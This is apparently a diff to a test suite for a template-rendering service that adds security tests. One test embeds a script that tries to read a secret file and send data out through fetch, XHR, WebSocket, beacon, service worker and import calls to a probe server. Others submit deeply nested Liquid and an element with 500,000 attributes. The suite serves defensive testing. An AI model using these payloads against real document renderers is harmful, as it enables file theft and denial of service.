@@ -9,7 +9,9 @@
 import PizZip from 'pizzip';
 import { PDFDocument, PDFName } from 'pdf-lib';
 import { DEFAULT_LIMITS } from '../../src/templates/limits';
+import { printer } from '../../src/templates/html';
 import { childrenWith } from '../../src/templates/watch';
+import { withEnv } from '../support/env';
 import { makeDocx } from '../support/docx';
 import {
   docxWith,
@@ -166,6 +168,37 @@ describe.each(BACKENDS)('hostile templates on %s', (backend) => {
       );
       const { text } = await documentText(await generate(id, { name: 'printed' }));
       expect(text).toContain('printed');
+    });
+
+    it('reaches nothing either when the server lets scripts run (HTML_SCRIPTS=1)', async () => {
+      const { url } = probe;
+      await printer.close();
+      try {
+        await withEnv('HTML_SCRIPTS', '1', async () => {
+          const id = await accepted(
+            page(`<p id="p">{{ name }}</p><iframe src="file://${secret.file}"></iframe><script>
+              const tries = [
+                () => fetch('${url}/fetch'), () => fetch('file://${secret.file}').then((r) => r.text()).then((t) => (document.getElementById('p').textContent = t)),
+                () => new Promise((_, no) => { const x = new XMLHttpRequest(); x.open('GET', '${url}/xhr'); x.onerror = no; x.send(); }),
+                () => new WebSocket('${url.replace('http', 'ws')}/ws'), () => navigator.sendBeacon('${url}/beacon', 'x'),
+                () => navigator.serviceWorker.register('${url}/sw.js'), () => window.open('${url}/window'),
+                () => import('${url}/module.js'), () => { location.href = 'file://${secret.file}'; },
+              ];
+              for (const t of tries) try { Promise.resolve(t()).catch(() => undefined); } catch (e) {}
+            </script>`),
+          );
+          const { text } = await documentText(await generate(id, { name: 'scripted' }));
+          expect(text).toContain('scripted');
+        });
+      } finally {
+        await printer.close();
+      }
+    });
+
+    it('refuses Liquid nested 10,000 levels deep', async () => {
+      const res = await upload(page('{% if f %}'.repeat(10_000) + '{{ f }}' + '{% endif %}'.repeat(10_000)));
+      expect(res.statusCode).toBe(422);
+      expect(['template_invalid', 'render_limit_exceeded']).toContain(res.json().error.code);
     });
 
     it('stops Chromium over its memory or time budget and gives its memory back (6)', async () => {
@@ -334,6 +367,11 @@ describe.each(BACKENDS)('hostile templates on %s', (backend) => {
         await answersMeanwhile(upload(`<document><page><body>${'<p a="1">'.repeat(900_000)}`)),
         'template_invalid',
       );
+    });
+
+    it('refuses an element with 500,000 attributes, read off the HTTP thread', async () => {
+      const attributes = Array.from({ length: 500_000 }, (_, i) => `a${i}=""`).join(' ');
+      refused(await upload(`<document ${attributes}><body><p>x</p></body></document>`), 'template_invalid');
     });
 
     it('refuses a data URI image by its own pixel count', async () => {
